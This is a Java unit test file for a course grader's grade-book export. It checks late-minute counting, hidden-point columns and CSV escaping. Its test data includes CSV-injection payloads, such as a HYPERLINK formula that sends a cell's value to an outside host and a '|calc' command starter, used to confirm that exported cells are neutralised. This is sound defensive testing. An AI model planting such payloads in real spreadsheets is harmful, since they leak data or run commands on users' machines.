package dbkata.grader.gradebook;

import static org.assertj.core.api.Assertions.assertThat;

import dbkata.grader.domain.Attempt;
import dbkata.grader.domain.Standing;
import dbkata.grader.report.HostileReports;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** A spreadsheet shows what is in the grade book, and computes none of it. */
class CsvBookTest {
  private static final int COLUMNS = 10;

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://a.b/?\"&A1,\"x\")",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "|calc",
        "%0a=1",
        " =1+1",
        "\t=1+1"
      })
  void nothingBeginsLikeAFormula(String id) {
    String cell = cells(CsvBook.of(book(id))).get(1).get(0);

    assertThat(cell).startsWith("'");
  }

  @Test
  void anyIdIsOneCellOfOneRow() {
    HostileReports.texts(200)
        .forEach(
            id -> {
              List<List<String>> rows = cells(CsvBook.of(book(id)));
              assertThat(rows).as("of %s", id).hasSize(2);
              assertThat(rows).allSatisfy(row -> assertThat(row).hasSize(COLUMNS));
              assertThat(rows.get(1).get(0)).doesNotContainPattern("^[\\s]*[=+@|%-]");
            });
  }

  @ParameterizedTest
  @CsvSource({
    "2026-11-24T17:00:00Z, 0",
    "2026-11-24T18:00:00Z, 0",
    "2026-11-24T18:00:01Z, 1",
    "2026-11-24T20:30:00Z, 150"
  })
  void lateIsCountedInMinutesThatHaveBegun(Instant committed, long minutes) {
    Attempt attempt = attempt("ada", Optional.of(committed), Standing.GRADED);
    Entry entry = new Entry(attempt, 1, Optional.empty());

    assertThat(entry.minutesLate(Optional.of(SampleClass.DUE))).hasValue(minutes);
    assertThat(entry.minutesLate(Optional.empty())).isEmpty();
  }

  @Test
  void hiddenPointsStandBesideTheTotal() {
    GradeBook book = SampleClass.bookWithHidden(2, 30);
    List<List<String>> rows = cells(CsvBook.of(book));

    assertThat(rows.get(0)).containsSubsequence("ex4", "total", "hidden", "status");
    for (int i = 0; i < book.entries().size(); i++) {
      Attempt attempt = book.entries().get(i).attempt();
      boolean graded = attempt.standing() == Standing.GRADED;
      List<String> cells = rows.get(i + 1);
      assertThat(cells.get(5)).isEqualTo(graded ? String.valueOf(attempt.counted()) : "");
      assertThat(cells.get(6)).isEqualTo(graded ? String.valueOf(attempt.hiddenCounted()) : "");
    }
    assertThat(JsonBook.of(book, "last")).contains("\"points\": 400,", "\"hiddenPoints\": 56,");
    assertThat(CsvBook.of(SampleClass.book(2, 30))).doesNotContain("hidden");
    assertThat(JsonBook.of(SampleClass.book(2, 30), "last")).doesNotContain("hidden");
  }

  @Test
  void whatHasNoScoreHasNoPoints() {
    Attempt attempt = attempt("ada", Optional.empty(), Standing.NOT_YOUR_FAULT);
    GradeBook book =
        new GradeBook(
            SampleClass.kit(), List.of(new Entry(attempt, 0, Optional.empty())), Optional.empty());

    assertThat(CsvBook.of(book)).endsWith("\nada,,,,,,not your fault,0,,\n");
    assertThat(JsonBook.of(book, "last"))
        .doesNotContain("\"total\"")
        .contains("\"not your fault\"");
  }

  private static GradeBook book(String id) {
    Attempt attempt = attempt(id, Optional.empty(), Standing.GRADED);
    return new GradeBook(
        SampleClass.kit(), List.of(new Entry(attempt, 1, Optional.empty())), Optional.empty());
  }

  private static Attempt attempt(String id, Optional<Instant> committed, Standing standing) {
    return new Attempt(
        id, id, "w", committed, Instant.EPOCH, Duration.ZERO, standing, "", List.of());
  }

  /** Read as RFC 4180 says. */
  private static List<List<String>> cells(String csv) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < csv.length(); i++) {
      char c = csv.charAt(i);
      if (quoted && c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
        cell.append('"');
        i++;
      } else if (c == '"') {
        quoted = !quoted;
      } else if (!quoted && (c == ',' || c == '\n')) {
        row.add(cell.toString());
        cell.setLength(0);
        if (c == '\n') {
          rows.add(row);
          row = new ArrayList<>();
        }
      } else {
        cell.append(c);
      }
    }
    assertThat(quoted).isFalse();
    return rows;
  }
}
